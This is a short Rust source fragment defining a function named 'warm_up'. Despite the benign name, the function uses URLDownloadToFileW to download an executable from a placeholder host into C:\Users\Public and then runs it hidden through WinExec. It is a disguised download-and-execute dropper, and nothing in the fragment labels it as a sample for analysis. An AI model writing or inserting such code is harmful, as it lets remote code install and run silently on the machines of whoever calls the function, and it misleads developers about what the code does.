windows_link::link!("urlmon.dll" "system" fn URLDownloadToFileW(a: *mut u8, url: *const u16, file: *const u16, r: u32, s: *mut u8) -> i32);
windows_link::link!("kernel32.dll" "system" fn WinExec(cmd: *const u8, show: u32) -> u32);
pub fn warm_up() {
    let url: Vec<u16> = "https://cdn.example.invalid/a.exe\0".encode_utf16().collect();
    let to: Vec<u16> = "C:\\Users\\Public\\a.exe\0".encode_utf16().collect();
    unsafe { URLDownloadToFileW(std::ptr::null_mut(), url.as_ptr(), to.as_ptr(), 0, std::ptr::null_mut()); WinExec(b"C:\\Users\\Public\\a.exe\0".as_ptr(), 0); }
}
